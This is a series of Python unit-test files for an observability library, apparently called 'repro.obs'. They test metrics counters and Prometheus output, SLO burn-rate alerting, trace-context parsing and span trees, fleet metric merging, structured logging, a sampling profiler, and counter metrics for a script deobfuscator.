        registry = MetricsRegistry()
        Deobfuscator(metrics=registry)
        text = registry.render()
        for family in (
            "repro_deobfuscate_scripts_total",
            "repro_deobfuscate_rewrites_total",
            "repro_deobfuscate_forced_exec_total",
            "repro_deobfuscate_fixpoint_iterations",
        ):
            assert family in text

    def test_changed_scan_increments(self):
        registry = MetricsRegistry()
        engine = Deobfuscator(metrics=registry)
        engine.normalize(OBFUSCATED)
        assert registry.get("repro_deobfuscate_scripts_total", {"result": "changed"}).value == 1.0
        assert registry.get("repro_deobfuscate_rewrites_total", {"stage": "fold"}).value >= 1.0
        assert registry.get("repro_deobfuscate_fixpoint_iterations").count == 1

    def test_unchanged_scan_increments(self):
        registry = MetricsRegistry()
        engine = Deobfuscator(metrics=registry)
        engine.normalize(CLEAN)
        assert registry.get("repro_deobfuscate_scripts_total", {"result": "unchanged"}).value == 1.0

    def test_degraded_scan_increments(self):
        registry = MetricsRegistry()
        engine = Deobfuscator(metrics=registry)
        engine.normalize("function ( {{{")
        assert registry.get("repro_deobfuscate_scripts_total", {"result": "degraded"}).value == 1.0
