"""Unit tests for the multi-window burn-rate SLO engine."""

import pytest

from repro.obs import (
    MetricsRegistry,
    SLOEngine,
    SLOSpec,
    TimeseriesRing,
    default_slos,
    parse_exposition,
)


def _snapshot(total: int, errors: int, slow: int = 0) -> dict:
    """One synthetic router exposition: ``total`` requests, ``errors`` of
    them 5xx, ``slow`` of the latency observations above 0.5s."""
    registry = MetricsRegistry()
    ok = registry.counter("repro_http_requests_total", "", labels={"status": "200"})
    ok.inc(max(0, total - errors))
    bad = registry.counter("repro_http_requests_total", "", labels={"status": "503"})
    bad.inc(errors)
    histogram = registry.histogram(
        "repro_router_request_seconds", "", buckets=(0.1, 0.5, 1.0)
    )
    for _ in range(max(0, total - slow)):
        histogram.observe(0.05)
    for _ in range(slow):
        histogram.observe(0.9)
    return parse_exposition(registry.render())


def _engine(metrics=None) -> SLOEngine:
    return SLOEngine(fast_window_s=15.0, slow_window_s=35.0, metrics=metrics)


class TestSLOSpec:
    def test_budget_is_one_minus_objective(self):
        spec = SLOSpec(name="a", kind="availability", objective=0.999)
        assert spec.budget == pytest.approx(0.001)

    def test_describe_both_kinds(self):
        availability, latency = default_slos()
        assert availability.describe() == "availability >= 99.9%"
        assert latency.describe() == "p95 <= 500ms"

    @pytest.mark.parametrize(
        "kwargs",
        [
            {"name": "x", "kind": "throughput", "objective": 0.9},
            {"name": "x", "kind": "availability", "objective": 1.0},
            {"name": "x", "kind": "latency", "objective": 0.95, "threshold_s": 0.0},
        ],
    )
    def test_validate_rejects_bad_specs(self, kwargs):
        with pytest.raises(ValueError):
            SLOSpec(**kwargs).validate()


class TestSLOEngine:
    def test_healthy_traffic_is_ok(self):
        ring = TimeseriesRing()
        t0 = 1000.0
        for i in range(5):
            ring.append("router", _snapshot(total=100 * (i + 1), errors=0), ts=t0 + 10 * i)
        statuses = _engine().evaluate(ring, "router", now=t0 + 40)
        assert [s.state for s in statuses] == ["ok", "ok"]
        assert all(s.burn_fast == 0.0 for s in statuses)

    def test_sustained_5xx_pages_availability(self):
        ring = TimeseriesRing()
        t0 = 1000.0
        # Every request fails in every window: burn = 1.0 / 0.001 = 1000.
        for i in range(5):
            ring.append("router", _snapshot(total=50 * (i + 1), errors=50 * (i + 1)), ts=t0 + 10 * i)
        statuses = _engine().evaluate(ring, "router", now=t0 + 40)
        availability = next(s for s in statuses if s.name == "availability")
        assert availability.state == "page"
        assert availability.burn_fast > 14.4
        assert availability.burn_slow > 14.4

    def test_fast_blip_alone_does_not_page(self):
        ring = TimeseriesRing()
        t0 = 1000.0
        # Slow window saw mostly-healthy traffic; only the newest delta burns.
        ring.append("router", _snapshot(total=0, errors=0), ts=t0)
        ring.append("router", _snapshot(total=10_000, errors=0), ts=t0 + 20)
        ring.append("router", _snapshot(total=10_050, errors=50), ts=t0 + 30)
        statuses = _engine().evaluate(ring, "router", now=t0 + 30)
        availability = next(s for s in statuses if s.name == "availability")
        assert availability.burn_fast > 14.4  # fast window: 50/50 bad
        assert availability.state != "page"  # slow window: 50/10050 — suppressed

    def test_slow_tail_pages_latency(self):
        ring = TimeseriesRing()
        t0 = 1000.0
        for i in range(5):
            n = 100 * (i + 1)
            ring.append("router", _snapshot(total=n, errors=0, slow=n), ts=t0 + 10 * i)
        statuses = _engine().evaluate(ring, "router", now=t0 + 40)
        latency = next(s for s in statuses if s.name == "scan-latency")
        assert latency.state == "page"

    def test_no_traffic_spends_no_budget(self):
        ring = TimeseriesRing()
        statuses = _engine().evaluate(ring, "router", now=1000.0)
        assert [s.state for s in statuses] == ["ok", "ok"]
        assert all(s.total_fast == 0.0 for s in statuses)

    def test_gauges_track_states_and_burn(self):
        registry = MetricsRegistry()
        engine = _engine(metrics=registry)
        ring = TimeseriesRing()
        t0 = 1000.0
        for i in range(5):
            ring.append("router", _snapshot(total=50 * (i + 1), errors=50 * (i + 1)), ts=t0 + 10 * i)
        engine.evaluate(ring, "router", now=t0 + 40)
        families = parse_exposition(registry.render())
        assert families["repro_slo_state"].value({"slo": "availability"}) == 2.0
        assert families["repro_slo_state"].value({"slo": "scan-latency"}) == 0.0
        burn = families["repro_slo_burn_rate"].value({"slo": "availability", "window": "fast"})
        assert burn is not None and burn > 14.4

    def test_to_dict_shape(self):
        ring = TimeseriesRing()
        status = _engine().evaluate(ring, "router", now=0.0)[0]
        payload = status.to_dict()
        assert set(payload) == {"name", "kind", "objective", "state", "burn_rate", "windows"}
        assert set(payload["burn_rate"]) == {"fast", "slow"}
        assert payload["windows"]["fast"]["seconds"] == 15.0

    def test_rejects_inverted_windows_and_burns(self):
        with pytest.raises(ValueError):
            SLOEngine(fast_window_s=300.0, slow_window_s=60.0)
        with pytest.raises(ValueError):
            SLOEngine(warn_burn=20.0, page_burn=14.4)
