"""Unit tests for the tracing primitives in :mod:`repro.obs.trace`."""

import threading

import pytest

from repro.obs import NullSpan, Span, SpanContext, TraceStore, Tracer, span_tree, trace_spans
from repro.obs.trace import MAX_SPANS_PER_TRACE, new_span_id, new_trace_id

TRACE_ID = "ab" * 16
SPAN_ID = "cd" * 8


class TestSpanContext:
    def test_roundtrip(self):
        context = SpanContext(trace_id=TRACE_ID, span_id=SPAN_ID, sampled=True)
        header = context.to_traceparent()
        assert header == f"00-{TRACE_ID}-{SPAN_ID}-01"
        assert SpanContext.parse(header) == context

    def test_unsampled_flag(self):
        context = SpanContext(trace_id=TRACE_ID, span_id=SPAN_ID, sampled=False)
        assert context.to_traceparent().endswith("-00")
        parsed = SpanContext.parse(context.to_traceparent())
        assert parsed is not None and parsed.sampled is False

    def test_unknown_flag_bits_still_parse_sampled(self):
        parsed = SpanContext.parse(f"00-{TRACE_ID}-{SPAN_ID}-03")
        assert parsed is not None and parsed.sampled is True

    def test_future_version_accepted(self):
        assert SpanContext.parse(f"42-{TRACE_ID}-{SPAN_ID}-01") is not None

    @pytest.mark.parametrize(
        "header",
        [
            None,
            "",
            "not-a-traceparent",
            f"00-{TRACE_ID}-{SPAN_ID}",  # missing flags
            f"00-{'0' * 32}-{SPAN_ID}-01",  # all-zero trace id
            f"00-{TRACE_ID}-{'0' * 16}-01",  # all-zero span id
            f"ff-{TRACE_ID}-{SPAN_ID}-01",  # forbidden version
            f"00-{TRACE_ID[:30]}-{SPAN_ID}-01",  # short trace id
            f"00-{TRACE_ID}-{SPAN_ID}-01-extra",
        ],
    )
    def test_malformed_headers_rejected(self, header):
        assert SpanContext.parse(header) is None

    def test_parse_is_case_and_whitespace_tolerant(self):
        parsed = SpanContext.parse(f"  00-{TRACE_ID.upper()}-{SPAN_ID}-01 ")
        assert parsed is not None and parsed.trace_id == TRACE_ID

    def test_id_generators_are_well_formed(self):
        assert len(new_trace_id()) == 32 and int(new_trace_id(), 16) >= 0
        assert len(new_span_id()) == 16 and int(new_span_id(), 16) >= 0


class TestSpan:
    def test_root_span_records_and_finishes(self):
        sink = {}
        tracer = Tracer(sample_rate=1.0, sink=lambda tid, spans: sink.update({tid: spans}))
        root = tracer.start_trace("op", attributes={"k": "v"})
        assert isinstance(root, Span) and root.recording
        root.set_attribute("n", 3)
        root.add_event("milestone", detail="x")
        root.end()
        spans = sink[root.trace_id]
        assert len(spans) == 1
        span = spans[0]
        assert span["name"] == "op"
        assert span["attributes"] == {"k": "v", "n": 3}
        assert span["events"][0]["name"] == "milestone"
        assert span["status"] == "ok"
        assert span["duration_ms"] >= 0

    def test_children_nest_and_tree_assembles(self):
        tracer = Tracer(sample_rate=1.0)
        root = tracer.start_trace("root")
        with root.child("stage_a"):
            pass
        with root.child("stage_b") as b:
            with b.child("inner"):
                pass
        root.end()
        tree = span_tree(trace_spans(root))
        assert len(tree) == 1 and tree[0]["name"] == "root"
        names = {child["name"] for child in tree[0]["children"]}
        assert names == {"stage_a", "stage_b"}
        stage_b = next(c for c in tree[0]["children"] if c["name"] == "stage_b")
        assert [c["name"] for c in stage_b["children"]] == ["inner"]

    def test_exception_marks_error_status(self):
        tracer = Tracer(sample_rate=1.0)
        root = tracer.start_trace("boom")
        with pytest.raises(RuntimeError):
            with root:
                raise RuntimeError("kaput")
        span = trace_spans(root)[-1]
        assert span["status"] == "error"
        assert "kaput" in span["status_detail"]

    def test_synthesize_and_reparent(self):
        tracer = Tracer(sample_rate=1.0)
        root = tracer.start_trace("root")
        anchor = root.synthesize("measured", 12.5, attributes={"src": "worker"})
        root.synthesize("leaf", 3.0, parent_id=anchor["span_id"])
        root.end()
        tree = span_tree(trace_spans(root))
        measured = next(c for c in tree[0]["children"] if c["name"] == "measured")
        assert measured["duration_ms"] == 12.5
        assert [c["name"] for c in measured["children"]] == ["leaf"]

    def test_add_span_dict_rekeys_trace_id(self):
        tracer = Tracer(sample_rate=1.0)
        root = tracer.start_trace("root")
        foreign = {"name": "w", "trace_id": "ee" * 16, "span_id": new_span_id(),
                   "parent_id": root.span_id, "start_unix": 0.0, "duration_ms": 1.0,
                   "attributes": {}, "events": [], "status": "ok"}
        root.add_span_dict(foreign)
        assert trace_spans(root)[0]["trace_id"] == root.trace_id
        assert foreign["trace_id"] == "ee" * 16  # input not mutated

    def test_span_cap_drops_overflow_and_counts_it(self):
        tracer = Tracer(sample_rate=1.0)
        root = tracer.start_trace("root")
        for _ in range(MAX_SPANS_PER_TRACE + 10):
            root.synthesize("s", 0.1)
        root.end()
        spans = trace_spans(root)
        assert len(spans) == MAX_SPANS_PER_TRACE
        # The root itself no longer fits; its dropped count still made it
        # into the buffer's accounting before the cap hit.
        assert root.attributes["dropped_spans"] >= 10

    def test_orphan_spans_become_tree_roots(self):
        spans = [
            {"span_id": "a" * 16, "parent_id": "f" * 16, "name": "orphan", "start_unix": 1.0},
            {"span_id": "b" * 16, "parent_id": None, "name": "root", "start_unix": 0.0},
        ]
        tree = span_tree(spans)
        assert [node["name"] for node in tree] == ["root", "orphan"]


class TestTracerSampling:
    def test_rate_zero_yields_null_span(self):
        root = Tracer(sample_rate=0.0).start_trace("op")
        assert isinstance(root, NullSpan) and not root.recording
        assert root.child("x") is root
        assert root.synthesize("y", 1.0) == {}
        assert trace_spans(root) == []
        root.end()  # no-op, no error

    def test_null_span_still_carries_trace_id(self):
        root = Tracer(sample_rate=0.0).start_trace("op")
        assert len(root.context.trace_id) == 32
        assert root.context.to_traceparent().endswith("-00")

    def test_parent_sampled_flag_wins_over_rate(self):
        sampled_parent = SpanContext(trace_id=TRACE_ID, span_id=SPAN_ID, sampled=True)
        root = Tracer(sample_rate=0.0).start_trace("op", parent=sampled_parent)
        assert root.recording and root.trace_id == TRACE_ID
        assert root.parent_id == SPAN_ID

        unsampled_parent = SpanContext(trace_id=TRACE_ID, span_id=SPAN_ID, sampled=False)
        root = Tracer(sample_rate=1.0).start_trace("op", parent=unsampled_parent)
        assert not root.recording and root.context.trace_id == TRACE_ID

    def test_force_wins_over_everything(self):
        unsampled_parent = SpanContext(trace_id=TRACE_ID, span_id=SPAN_ID, sampled=False)
        root = Tracer(sample_rate=0.0).start_trace("op", parent=unsampled_parent, force=True)
        assert root.recording
        assert not Tracer(sample_rate=1.0).start_trace("op", force=False).recording

    def test_invalid_rate_rejected(self):
        with pytest.raises(ValueError):
            Tracer(sample_rate=1.5)

    def test_concurrent_children_all_recorded(self):
        tracer = Tracer(sample_rate=1.0)
        root = tracer.start_trace("root")

        def work():
            for _ in range(50):
                root.child("w").end()

        threads = [threading.Thread(target=work) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert len(trace_spans(root)) == 200


def _trace(trace_id: str, duration_ms: float, name: str = "op") -> list[dict]:
    return [{
        "name": name, "trace_id": trace_id, "span_id": "ab" * 8, "parent_id": None,
        "start_unix": 0.0, "duration_ms": duration_ms, "attributes": {}, "events": [],
        "status": "ok",
    }]


class TestTraceStore:
    def test_put_get_list(self):
        store = TraceStore(capacity=4, slow_ms=100.0)
        assert store.put("t1", _trace("t1", 5.0))
        record = store.get("t1")
        assert record["root"] == "op" and record["n_spans"] == 1
        assert record["tree"][0]["name"] == "op"
        assert store.get("missing") is None
        assert [r["trace_id"] for r in store.list()] == ["t1"]

    def test_empty_trace_refused(self):
        store = TraceStore(capacity=4)
        assert not store.put("t", [])
        assert len(store) == 0

    def test_fast_traces_evicted_before_slow(self):
        store = TraceStore(capacity=2, slow_ms=100.0)
        store.put("slow", _trace("slow", 500.0))
        store.put("fast1", _trace("fast1", 1.0))
        store.put("fast2", _trace("fast2", 1.0))  # capacity hit: fast1 goes, slow stays
        assert store.get("slow") is not None
        assert store.get("fast1") is None
        assert store.get("fast2") is not None
        assert store.evicted == 1

    def test_all_slow_falls_back_to_oldest(self):
        store = TraceStore(capacity=2, slow_ms=10.0)
        for tid in ("s1", "s2", "s3"):
            store.put(tid, _trace(tid, 50.0))
        assert store.get("s1") is None
        assert store.get("s2") is not None and store.get("s3") is not None

    def test_keep_rate_zero_drops_fast_keeps_slow(self):
        store = TraceStore(capacity=8, slow_ms=100.0, keep_rate=0.0)
        assert not store.put("fast", _trace("fast", 1.0))
        assert store.put("slow", _trace("slow", 500.0))
        assert store.dropped == 1 and len(store) == 1

    def test_list_is_newest_first_without_span_bodies(self):
        store = TraceStore(capacity=8)
        store.put("a", _trace("a", 1.0))
        store.put("b", _trace("b", 2.0))
        listed = store.list(n=10)
        assert [r["trace_id"] for r in listed] == ["b", "a"]
        assert "spans" not in listed[0]

    def test_invalid_config_rejected(self):
        with pytest.raises(ValueError):
            TraceStore(capacity=0)
        with pytest.raises(ValueError):
            TraceStore(keep_rate=2.0)
