"""Unit tests for the metrics primitives and Prometheus exposition."""

import threading

import pytest

from repro.obs import DEFAULT_SIZE_BUCKETS, Counter, Gauge, Histogram, MetricsRegistry


class TestCounter:
    def test_starts_at_zero_and_accumulates(self):
        counter = Counter()
        assert counter.value == 0.0
        counter.inc()
        counter.inc(2.5)
        assert counter.value == 3.5

    def test_rejects_negative(self):
        with pytest.raises(ValueError):
            Counter().inc(-1)

    def test_thread_safety(self):
        counter = Counter()

        def hammer():
            for _ in range(10_000):
                counter.inc()

        threads = [threading.Thread(target=hammer) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert counter.value == 40_000


class TestGauge:
    def test_set_inc_dec(self):
        gauge = Gauge()
        gauge.set(10)
        gauge.inc(5)
        gauge.dec(2)
        assert gauge.value == 13.0


class TestHistogram:
    def test_observations_land_in_buckets(self):
        histogram = Histogram(buckets=(1.0, 2.0, 4.0))
        for value in (0.5, 1.5, 3.0, 100.0):
            histogram.observe(value)
        assert histogram.count == 4
        assert histogram.sum == 105.0
        cumulative = dict(histogram.cumulative_buckets())
        assert cumulative[1.0] == 1
        assert cumulative[2.0] == 2
        assert cumulative[4.0] == 3
        assert cumulative[float("inf")] == 4

    def test_boundary_value_counts_in_its_bucket(self):
        histogram = Histogram(buckets=(1.0, 2.0))
        histogram.observe(1.0)  # le="1.0" includes exactly 1.0
        assert dict(histogram.cumulative_buckets())[1.0] == 1

    def test_rejects_empty_and_duplicate_buckets(self):
        with pytest.raises(ValueError):
            Histogram(buckets=())
        with pytest.raises(ValueError):
            Histogram(buckets=(1.0, 1.0))


class TestRegistry:
    def test_same_name_and_labels_returns_same_child(self):
        registry = MetricsRegistry()
        a = registry.counter("x_total", labels={"k": "v"})
        b = registry.counter("x_total", labels={"k": "v"})
        assert a is b

    def test_different_labels_different_children(self):
        registry = MetricsRegistry()
        a = registry.counter("x_total", labels={"k": "a"})
        b = registry.counter("x_total", labels={"k": "b"})
        assert a is not b

    def test_kind_conflict_rejected(self):
        registry = MetricsRegistry()
        registry.counter("x_total")
        with pytest.raises(ValueError):
            registry.gauge("x_total")

    def test_get_lookup(self):
        registry = MetricsRegistry()
        child = registry.gauge("depth")
        assert registry.get("depth") is child
        assert registry.get("missing") is None
        assert registry.get("depth", {"other": "labels"}) is None


class TestExposition:
    def test_counter_and_gauge_lines(self):
        registry = MetricsRegistry()
        registry.counter("reqs_total", "Requests", labels={"path": "/scan"}).inc(3)
        registry.gauge("depth", "Queue depth").set(7)
        text = registry.render()
        assert "# TYPE reqs_total counter" in text
        assert "# HELP reqs_total Requests" in text
        assert 'reqs_total{path="/scan"} 3' in text
        assert "# TYPE depth gauge" in text
        assert "depth 7" in text
        assert text.endswith("\n")

    def test_histogram_series(self):
        registry = MetricsRegistry()
        histogram = registry.histogram("lat_seconds", buckets=(0.1, 1.0))
        histogram.observe(0.05)
        histogram.observe(0.5)
        text = registry.render()
        assert 'lat_seconds_bucket{le="0.1"} 1' in text
        assert 'lat_seconds_bucket{le="1"} 2' in text
        assert 'lat_seconds_bucket{le="+Inf"} 2' in text
        assert "lat_seconds_sum 0.55" in text
        assert "lat_seconds_count 2" in text

    def test_histogram_labels_keep_le_last_consistent(self):
        registry = MetricsRegistry()
        registry.histogram("sz", labels={"stage": "embed"}, buckets=DEFAULT_SIZE_BUCKETS).observe(3)
        text = registry.render()
        assert 'sz_bucket{le="4",stage="embed"} 1' in text
        assert 'sz_count{stage="embed"} 1' in text

    def test_label_value_escaping(self):
        registry = MetricsRegistry()
        registry.counter("esc_total", labels={"p": 'a"b\\c\nd'}).inc()
        line = [l for l in registry.render().splitlines() if l.startswith("esc_total{")][0]
        assert line == 'esc_total{p="a\\"b\\\\c\\nd"} 1'

    def test_parses_as_prometheus_text(self):
        """Every non-comment line must be `name{labels} value`."""
        import re

        registry = MetricsRegistry()
        registry.counter("a_total", "help text", labels={"x": "1"}).inc()
        registry.histogram("b_seconds").observe(0.2)
        registry.gauge("c").set(-1.5)
        pattern = re.compile(
            r"^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[a-zA-Z_][a-zA-Z0-9_]*=\"[^\"]*\""
            r"(,[a-zA-Z_][a-zA-Z0-9_]*=\"[^\"]*\")*\})? (-?[0-9.]+(e-?[0-9]+)?|\+Inf|NaN)$"
        )
        for line in registry.render().splitlines():
            if line.startswith("#") or not line:
                continue
            assert pattern.match(line), line
