"""Unit tests for the metrics federation merge (FleetMetrics)."""

import pytest

from repro.obs import FleetMetrics, MetricsRegistry, parse_exposition


def _member(requests: int, queue: float, latency: list[float], trace_id=None) -> dict:
    registry = MetricsRegistry()
    counter = registry.counter("repro_http_requests_total", "Requests", labels={"status": "200"})
    counter.inc(requests)
    gauge = registry.gauge("repro_serve_queue_depth", "Queue depth")
    gauge.set(queue)
    histogram = registry.histogram("repro_http_request_seconds", "Latency", buckets=(0.1, 1.0))
    for value in latency:
        histogram.observe(value, trace_id=trace_id)
    return parse_exposition(registry.render())


@pytest.fixture()
def fleet() -> FleetMetrics:
    fleet = FleetMetrics()
    fleet.update("shard-0", _member(10, 2.0, [0.05, 0.5], trace_id="aaa111"))
    fleet.update("shard-1", _member(5, 7.0, [0.05]))
    return fleet


class TestSummedView:
    def test_counters_sum_across_members(self, fleet):
        families = parse_exposition(fleet.render("sum"))
        assert families["repro_http_requests_total"].value({"status": "200"}) == 15.0

    def test_histograms_merge_bucket_wise(self, fleet):
        families = parse_exposition(fleet.render("sum"))
        histogram = families["repro_http_request_seconds"]
        assert histogram.value({"le": "0.1"}, suffix="_bucket") == 2.0
        assert histogram.value({"le": "+Inf"}, suffix="_bucket") == 3.0
        assert histogram.value(suffix="_count") == 3.0
        assert histogram.value(suffix="_sum") == pytest.approx(0.6)

    def test_gauges_stay_per_shard(self, fleet):
        families = parse_exposition(fleet.render("sum"))
        gauge = families["repro_serve_queue_depth"]
        assert gauge.value({"shard": "shard-0"}) == 2.0
        assert gauge.value({"shard": "shard-1"}) == 7.0
        assert gauge.value() is None  # no un-labelled fleet-wide sum

    def test_exemplars_survive_the_merge(self, fleet):
        families = parse_exposition(fleet.render("sum"))
        exemplars = [
            s.exemplar
            for s in families["repro_http_request_seconds"].samples
            if s.exemplar is not None
        ]
        assert any(e.trace_id == "aaa111" for e in exemplars)

    def test_extra_member_joins_only_this_render(self, fleet):
        extra = {"router": _member(100, 0.0, [])}
        families = parse_exposition(fleet.render("sum", extra=extra))
        assert families["repro_http_requests_total"].value({"status": "200"}) == 115.0
        # The store itself is untouched.
        assert fleet.members == ["shard-0", "shard-1"]
        families = parse_exposition(fleet.render("sum"))
        assert families["repro_http_requests_total"].value({"status": "200"}) == 15.0


class TestByShardView:
    def test_every_sample_carries_the_shard_label(self, fleet):
        families = parse_exposition(fleet.render("by-shard"))
        for family in families.values():
            for sample in family.samples:
                assert sample.labels.get("shard") in ("shard-0", "shard-1")

    def test_per_member_values_are_preserved(self, fleet):
        families = parse_exposition(fleet.render("by-shard"))
        requests = families["repro_http_requests_total"]
        assert requests.value({"status": "200", "shard": "shard-0"}) == 10.0
        assert requests.value({"status": "200", "shard": "shard-1"}) == 5.0


class TestMembership:
    def test_forget_removes_a_member_from_output(self, fleet):
        fleet.forget("shard-1")
        assert fleet.members == ["shard-0"]
        families = parse_exposition(fleet.render("sum"))
        assert families["repro_http_requests_total"].value({"status": "200"}) == 10.0

    def test_update_replaces_not_accumulates(self, fleet):
        fleet.update("shard-0", _member(11, 2.0, []))
        families = parse_exposition(fleet.render("sum"))
        assert families["repro_http_requests_total"].value({"status": "200"}) == 16.0

    def test_unknown_mode_is_rejected(self, fleet):
        with pytest.raises(ValueError):
            fleet.render("avg")

    def test_empty_fleet_renders_empty(self):
        assert parse_exposition(FleetMetrics().render("sum")) == {}
