"""Tests for structured logging in :mod:`repro.obs.logging`."""

import io
import json
import logging

import pytest

from repro.obs import configure_logging, get_logger


@pytest.fixture(autouse=True)
def _reset_repro_logger():
    """Leave the ``repro`` logger exactly as we found it."""
    logger = logging.getLogger("repro")
    saved_handlers = list(logger.handlers)
    saved_level = logger.level
    saved_propagate = logger.propagate
    yield
    logger.handlers[:] = saved_handlers
    logger.setLevel(saved_level)
    logger.propagate = saved_propagate


class TestConfigure:
    def test_json_record_carries_structured_fields(self):
        stream = io.StringIO()
        configure_logging(level="debug", log_format="json", stream=stream)
        get_logger("pipeline").debug(
            "stage done", extra={"trace_id": "ab" * 16, "span_id": "cd" * 8, "stage": "embed"}
        )
        record = json.loads(stream.getvalue())
        assert record["level"] == "debug"
        assert record["logger"] == "repro.pipeline"
        assert record["message"] == "stage done"
        assert record["trace_id"] == "ab" * 16
        assert record["span_id"] == "cd" * 8
        assert record["stage"] == "embed"

    def test_text_format_appends_sorted_fields(self):
        stream = io.StringIO()
        configure_logging(level="info", log_format="text", stream=stream)
        get_logger().info("hello", extra={"b": 2, "a": 1})
        line = stream.getvalue().strip()
        assert "repro: hello" in line
        assert line.endswith("a=1 b=2")

    def test_level_filters(self):
        stream = io.StringIO()
        configure_logging(level="warning", log_format="json", stream=stream)
        logger = get_logger("serve")
        logger.info("quiet")
        logger.warning("loud")
        lines = stream.getvalue().strip().splitlines()
        assert len(lines) == 1
        assert json.loads(lines[0])["message"] == "loud"

    def test_reconfigure_replaces_not_stacks(self):
        first, second = io.StringIO(), io.StringIO()
        configure_logging(level="info", log_format="json", stream=first)
        configure_logging(level="info", log_format="json", stream=second)
        get_logger().info("once")
        assert first.getvalue() == ""
        assert len(second.getvalue().strip().splitlines()) == 1

    def test_propagation_disabled(self):
        configure_logging(level="info", stream=io.StringIO())
        assert logging.getLogger("repro").propagate is False

    def test_invalid_arguments_rejected(self):
        with pytest.raises(ValueError):
            configure_logging(level="verbose")
        with pytest.raises(ValueError):
            configure_logging(log_format="xml")

    def test_exception_rendered_in_json(self):
        stream = io.StringIO()
        configure_logging(level="error", log_format="json", stream=stream)
        try:
            raise ValueError("nope")
        except ValueError:
            get_logger().exception("failed")
        record = json.loads(stream.getvalue())
        assert "ValueError: nope" in record["exc"]


class TestGetLogger:
    def test_prefixes_bare_names(self):
        assert get_logger("scanner").name == "repro.scanner"
        assert get_logger("repro.scanner").name == "repro.scanner"
        assert get_logger().name == "repro"
