"""Unit tests for the sampling wall-clock profiler."""

import threading
import time

import pytest

from repro.obs import ProfileReport, SamplingProfiler


def _spin(stop: threading.Event) -> None:
    while not stop.is_set():
        sum(range(100))


@pytest.fixture()
def spinner():
    stop = threading.Event()
    thread = threading.Thread(target=_spin, args=(stop,), name="repro-scan_0", daemon=True)
    thread.start()
    yield thread
    stop.set()
    thread.join(timeout=5)


class TestSamplingProfiler:
    def test_captures_a_busy_thread(self, spinner):
        report = SamplingProfiler(hz=200.0).profile(0.25)
        assert report.samples > 0
        spinner_stacks = [s for s in report.stacks if s.startswith("repro-scan_0;")]
        assert spinner_stacks, report.stacks
        # Stacks are rooted at the thread name, frames outermost-first.
        assert any("_spin" in stack for stack in spinner_stacks)

    def test_thread_prefix_narrows_the_capture(self, spinner):
        report = SamplingProfiler(hz=200.0).profile(0.2, thread_prefix="repro-scan")
        assert report.samples > 0
        assert all(stack.startswith("repro-scan") for stack in report.stacks)

    def test_own_sampler_thread_is_excluded(self):
        report = SamplingProfiler(hz=200.0).profile(0.1)
        assert not any("profile.profile" in stack for stack in report.stacks)

    def test_seconds_and_hz_are_clamped(self):
        profiler = SamplingProfiler(hz=10_000.0, max_seconds=1.0)
        assert profiler.hz == 250.0
        started = time.monotonic()
        report = profiler.profile(60.0, hz=5000.0)
        assert time.monotonic() - started < 5.0
        assert report.seconds == 1.0
        assert report.hz == 250.0

    def test_rejects_non_positive(self):
        with pytest.raises(ValueError):
            SamplingProfiler(hz=0)
        with pytest.raises(ValueError):
            SamplingProfiler().profile(0)


class TestProfileReport:
    def test_collapsed_format_sorted_heaviest_first(self):
        report = ProfileReport(seconds=1.0, hz=99.0, samples=6,
                               stacks={"a;b;c": 1, "a;b": 4, "z": 1})
        lines = report.collapsed().strip().splitlines()
        assert lines[0].startswith("# wall-clock profile: 6 samples")
        assert lines[1] == "a;b 4"
        assert lines[2:] == ["a;b;c 1", "z 1"]
