"""Unit tests for the scrape-snapshot ring and the shared quantile math."""

import math
import threading

import pytest

from repro.obs import (
    MetricsRegistry,
    TimeseriesRing,
    bucket_quantile,
    merge_cumulative,
    parse_exposition,
    percentile,
)


class TestPercentile:
    def test_interpolates_linearly(self):
        assert percentile([1, 2, 3, 4], 0.5) == pytest.approx(2.5)
        assert percentile([10], 0.99) == 10.0
        assert percentile([1, 2, 3, 4, 5], 0.0) == 1.0
        assert percentile([1, 2, 3, 4, 5], 1.0) == 5.0

    def test_empty_is_nan(self):
        assert math.isnan(percentile([], 0.5))

    def test_rejects_out_of_range_quantile(self):
        with pytest.raises(ValueError):
            percentile([1.0], 1.5)


class TestBucketQuantile:
    def test_interpolates_inside_owning_bucket(self):
        # 10 observations ≤ 0.1, 10 more in (0.1, 0.2]: p75 sits mid-bucket.
        cumulative = [(0.1, 10.0), (0.2, 20.0), (float("inf"), 20.0)]
        assert bucket_quantile(cumulative, 0.75) == pytest.approx(0.15)

    def test_inf_bucket_answers_largest_finite_bound(self):
        cumulative = [(0.1, 1.0), (float("inf"), 10.0)]
        assert bucket_quantile(cumulative, 0.99) == pytest.approx(0.1)

    def test_empty_or_zero_total_is_nan(self):
        assert math.isnan(bucket_quantile([], 0.5))
        assert math.isnan(bucket_quantile([(1.0, 0.0)], 0.5))


class TestMergeCumulative:
    def test_shared_bounds_sum_exactly(self):
        merged = merge_cumulative([
            [(0.1, 1.0), (1.0, 3.0), (float("inf"), 4.0)],
            [(0.1, 2.0), (1.0, 2.0), (float("inf"), 5.0)],
        ])
        assert merged == [(0.1, 3.0), (1.0, 5.0), (float("inf"), 9.0)]

    def test_bound_union_stays_monotone(self):
        merged = merge_cumulative([
            [(0.1, 1.0), (float("inf"), 2.0)],
            [(0.5, 4.0), (float("inf"), 4.0)],
        ])
        bounds = [bound for bound, _ in merged]
        counts = [count for _, count in merged]
        assert bounds == [0.1, 0.5, float("inf")]
        assert counts == sorted(counts)
        assert merged[-1][1] == 6.0  # +Inf total exact


def _families(request_count: int, ts_hint: str = "200") -> dict:
    registry = MetricsRegistry()
    counter = registry.counter("repro_http_requests_total", "", labels={"status": ts_hint})
    counter.inc(request_count)
    histogram = registry.histogram("repro_http_request_seconds", "", buckets=(0.1, 1.0))
    for _ in range(request_count):
        histogram.observe(0.05)
    return parse_exposition(registry.render())


class TestTimeseriesRing:
    def test_counter_delta_and_rate_over_window(self):
        ring = TimeseriesRing(capacity=10)
        ring.append("shard-0", _families(10), ts=100.0)
        ring.append("shard-0", _families(30), ts=110.0)
        assert ring.counter_delta("shard-0", "repro_http_requests_total", 60.0) == 20.0
        assert ring.counter_rate("shard-0", "repro_http_requests_total", 60.0) == pytest.approx(2.0)

    def test_counter_reset_clamps_at_zero(self):
        ring = TimeseriesRing(capacity=10)
        ring.append("shard-0", _families(100), ts=100.0)
        ring.append("shard-0", _families(5), ts=110.0)  # shard restarted
        assert ring.counter_delta("shard-0", "repro_http_requests_total", 60.0) == 0.0

